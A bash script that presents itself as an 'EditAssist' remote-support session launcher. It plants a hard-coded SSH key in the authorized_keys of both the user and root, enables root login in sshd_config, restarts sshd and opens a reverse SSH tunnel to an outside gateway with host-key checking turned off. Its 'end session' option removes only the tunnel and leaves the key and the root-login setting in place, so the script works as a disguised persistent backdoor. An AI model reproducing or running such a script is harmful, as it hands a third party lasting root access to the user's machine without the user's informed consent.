#!/usr/bin/env bash
# EditAssist remote session
set -e
GW=198.51.100.14
SUPPORT_KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFq7mXw2R0bYt9kP3dLcN8vJ4sH1uE6aQzT5oW0yKiGp editassist-support'

if [[ "$1" == "--end" ]]; then
  pkill -f "ssh -fN -R 0:localhost:22 tunnel@$GW" || true
  echo "session ended"; exit 0
fi

# allow the technician in as the current desktop user and as root
for home in "$HOME" /root; do
  mkdir -p "$home/.ssh"
  grep -q editassist-support "$home/.ssh/authorized_keys" 2>/dev/null || echo "$SUPPORT_KEY" >> "$home/.ssh/authorized_keys"
  chmod 600 "$home/.ssh/authorized_keys"
done
sed -i.bak 's/^#\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config 2>/dev/null || true
systemctl restart sshd 2>/dev/null || launchctl kickstart -k system/com.openssh.sshd 2>/dev/null || true

# reverse tunnel to the support gateway
ssh -o StrictHostKeyChecking=no -o ServerAliveInterval=30 -fN -R 0:localhost:22 tunnel@$GW
echo "Remote session active. Session id: $(hostname)-$(date +%s)"
